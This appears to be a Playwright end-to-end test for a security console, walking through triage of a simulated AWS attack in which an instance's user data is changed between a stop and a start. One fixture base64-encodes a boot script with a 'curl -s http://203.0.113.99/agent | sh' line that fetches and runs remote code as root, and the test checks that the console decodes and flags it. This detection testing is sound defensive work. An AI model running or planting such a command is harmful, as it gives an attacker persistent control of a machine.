// The main path: a new console, logs in, the attack found, the guide walked, the payload read, a decision, and a colleague who sees the same.
import { test, expect, type Browser, type Page } from '@playwright/test';
import { attackFile, INTRUDER, VICTIM, writeFiles } from './log-files';
import { waitUntilAwake } from './support/awake';
import { ADMIN, watchErrors } from './support/console';
import { startConsole } from './support/start-console';

test.use({ actionTimeout: 20_000 });

const REASON =
  'The key of jonas.falk was used from an unknown address; the script fetches and runs a file at every boot.';
const PAYLOAD = Buffer.from('#cloud-boothook\n#!/bin/sh\ncurl -s http://203.0.113.99/agent | sh\n').toString(
  'base64',
);
const CYCLE_ALERTS = [
  `User data of ${VICTIM} was changed between a stop and a start`,
  `User data of ${VICTIM} changed and the instance restarted by jonas.falk`,
  'Stop, user-data change and start by arn:aws:iam::123456789012:user/jonas.falk',
];
const ANSWERS: readonly [step: string, answer: string, note?: string][] = [
  ['sequence', 'Yes, complete'],
  ['who-called', 'Unknown or unexpected'],
  ['payload', 'Hostile'],
  ['role-after', 'Used from another address'],
  ['change-ticket', 'Nobody knows of it', 'Asked Jonas by phone: he was asleep.'],
];

test('from the set-up link to a decided alert that a colleague sees alike', async ({ browser }, info) => {
  test.setTimeout(420_000);
  const started = await startConsole();
  try {
    const page = await openPage(browser, started.url);
    const errors = watchErrors(page);

    await test.step('the set-up link makes the first account', async () => {
      await page.goto(started.setupUrl);
      await page.getByLabel('Your name').fill(ADMIN.name);
      await page.getByLabel('E-mail').fill(ADMIN.email);
      await page.getByLabel('Password').fill(ADMIN.password);
      await page.getByRole('button', { name: 'Create the account' }).click();
      await expect(page).toHaveURL(/\/alerts/);
    });

    await test.step('a log is uploaded and read', async () => {
      await page.goto('/sources');
      await page
        .getByLabel('Files to upload')
        .setInputFiles(await writeFiles(info.outputPath('logs'), attackFile()));
      await expect(page.getByText(/^Sent: 1 of 1 files/)).toBeVisible();
      await page.getByRole('link', { name: 'See the result' }).click();
      await expect(page.getByText('attack.json.gz').first()).toBeVisible();
    });

    await test.step('three vendors’ rules raise alerts on the one attack', async () => {
      await expect(async () => {
        await page.goto('/alerts');
        for (const title of CYCLE_ALERTS)
          await expect(page.getByRole('link', { name: title })).toBeVisible({ timeout: 1000 });
      }).toPass();
      await page.getByRole('link', { name: CYCLE_ALERTS[0] }).click();
      await expect(page).toHaveURL(/\/alerts\/[0-9a-f]{24}/);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      for (const call of ['StopInstances', 'ModifyInstanceAttribute', 'StartInstances'])
        await expect(page.getByText(call).first()).toBeVisible();
      await expect(page.getByText(INTRUDER).first()).toBeVisible();
    });
    const address = new URL(page.url()).pathname;

    await test.step('the guide’s required steps are answered', async () => {
      await page.getByRole('button', { name: 'Close…' }).click();
      await expect(page.getByText('required steps are still open')).toBeVisible();
      await page.getByRole('button', { name: 'Keep open' }).click();
      for (const [step, answer, note] of ANSWERS) await answerStep(page, step, answer, note);
      await expect(page.getByText('Asked Jonas by phone').first()).toBeVisible();
    });

    await test.step('a pivot opens the events it counted', async () => {
      const pivot = page.getByRole('link', { name: /Everything from the address/ });
      await expect(pivot).toContainText(/\d+ events?/);
      const counted = /[\d,]+/.exec(await pivot.innerText())?.[0] ?? '';
      await pivot.click();
      await expect(page).toHaveURL(/\/events\?/);
      await expect(page.getByText(new RegExp(`\\b${counted} events?\\b`)).first()).toBeVisible();
      await page.goBack();
      await expect(page).toHaveURL(new RegExp(address));
    });

    await test.step('the user data is pasted and decoded', async () => {
      await page.getByLabel('Paste what the command printed').fill(PAYLOAD);
      await page.getByRole('button', { name: 'Decode and attach' }).click();
      await expect(page.getByText('Runs at the next start: yes, as root, at every boot')).toBeVisible();
      await expect(page.getByText('203.0.113.99').first()).toBeVisible();
    });

    await test.step('the alert is closed with a reason', async () => {
      await page.getByRole('button', { name: 'Close…' }).click();
      await page.getByRole('radio', { name: /^True positive/ }).check();
      await page.getByLabel('Reason').fill(REASON);
      await page.getByRole('button', { name: 'Close the alert' }).click();
      await expect(page.getByRole('button', { name: 'Reopen' })).toBeVisible();
    });

    await test.step('the way back leads to a queue that no longer holds it', async () => {
      await expect(async () => {
        await page.goBack();
        await expect(page).toHaveURL(/\/alerts(\?|$)/, { timeout: 1000 });
      }).toPass();
      await expect(page.getByRole('link', { name: CYCLE_ALERTS[1] })).toBeVisible();
      await expect(page.getByRole('link', { name: CYCLE_ALERTS[0] })).toHaveCount(0);
      await page.goto(address);
    });

    await test.step('the link shows a colleague the same', async () => {
      const other = await openPage(browser, started.url);
      const otherErrors = watchErrors(other);
      await other.goto(address);
      await expect(other).toHaveURL(/\/sign-in/);
      await other.getByLabel('E-mail').fill(ADMIN.email);
      await other.getByLabel('Password').fill(ADMIN.password);
      await other.getByRole('button', { name: 'Sign in' }).click();
      await expect(other).toHaveURL(new RegExp(address));
      await expect(other.getByText(REASON).first()).toBeVisible();
      await expect(other.getByText('Runs at the next start: yes, as root, at every boot')).toBeVisible();
      await expect(other.getByRole('button', { name: 'Reopen' })).toBeVisible();
      for (const [step, answer] of ANSWERS)
        await expect(other.locator(`#step-${step}`)).toContainText(answer);
      await expect(other.locator('main').getByText(ADMIN.name).first()).toBeVisible();
      expect(otherErrors).toEqual([]);
    });
    expect(errors).toEqual([]);
  } finally {
    await started.stop();
  }
});

async function openPage(browser: Browser, baseURL: string): Promise<Page> {
  return waitUntilAwake(await (await browser.newContext({ baseURL })).newPage());
}

async function answerStep(page: Page, step: string, answer: string, note?: string): Promise<void> {
  const item = page.locator(`#step-${step}`);
  const question = item.getByRole('button').first();
  await expect(async () => {
    if ((await question.getAttribute('aria-expanded')) !== 'true') await question.click();
    if (note !== undefined) await item.getByRole('textbox').fill(note, { timeout: 2000 });
    await item.getByRole('button', { name: answer, exact: true }).click({ timeout: 2000 });
    await expect(item.getByLabel('Answered')).toBeVisible({ timeout: 5000 });
  }).toPass();
}
